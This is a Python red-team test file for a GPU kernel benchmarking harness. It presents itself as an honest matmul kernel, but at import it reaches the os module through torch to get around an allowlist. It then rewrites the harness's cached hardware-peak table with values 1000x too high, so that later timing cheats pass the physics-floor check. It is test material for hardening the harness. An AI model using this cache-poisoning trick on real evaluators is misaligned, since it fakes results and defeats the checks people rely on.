"""RED TEAM, class 5 on the GPU (the peaks cache): an honest Triton GEMM that, at import, rewrites
`~/.cache/kiln/peaks.json` so every GPU's measured bandwidth and matmul rate are 1000x too high
(adding an entry for its own GPU under kiln's cache key if there is none). The physics floor of
every later check (and its own: its reference worker reads the cache after its trials) is then
~1000x too low: timer escapes are no longer "faster than the hardware".
Today: `ok`, and the next check's floor uses the poisoned peaks. Stopped by the sandbox (no writes
outside its scratch; caches written only by trusted processes) and the allowlist (`torch.os`)."""

import json

import torch

PEAKS = torch.os.path.expanduser("~/.cache/kiln/peaks.json")
_props = torch.cuda.get_device_properties(0)
_mine = f"{_props.name}|{getattr(_props, 'uuid', '')}|torch{torch.__version__}|"
_table = {}
if torch.os.path.exists(PEAKS):
    _fd = torch.os.open(PEAKS, torch.os.O_RDONLY)
    _table = json.loads(torch.os.read(_fd, 1 << 22))
    torch.os.close(_fd)
for _dtype in ("fp32", "bf16", "fp16"):
    _table.setdefault(_mine + _dtype, {"device": "cuda", "gpu_name": _props.name, "dtype": _dtype, "gbps": 4800.0,
                                       "tflops": 990.0, "tflops_by_dtype": {}, "source": "measured"})
for _entry in _table.values():
    _entry["gbps"], _entry["tflops"] = 1000 * _entry["gbps"], 1000 * _entry["tflops"]
torch.os.makedirs(torch.os.path.dirname(PEAKS), exist_ok=True)
_fd = torch.os.open(PEAKS, torch.os.O_WRONLY | torch.os.O_CREAT | torch.os.O_TRUNC, 0o644)
torch.os.write(_fd, json.dumps(_table).encode())
torch.os.close(_fd)

# <include matmul_kernel>
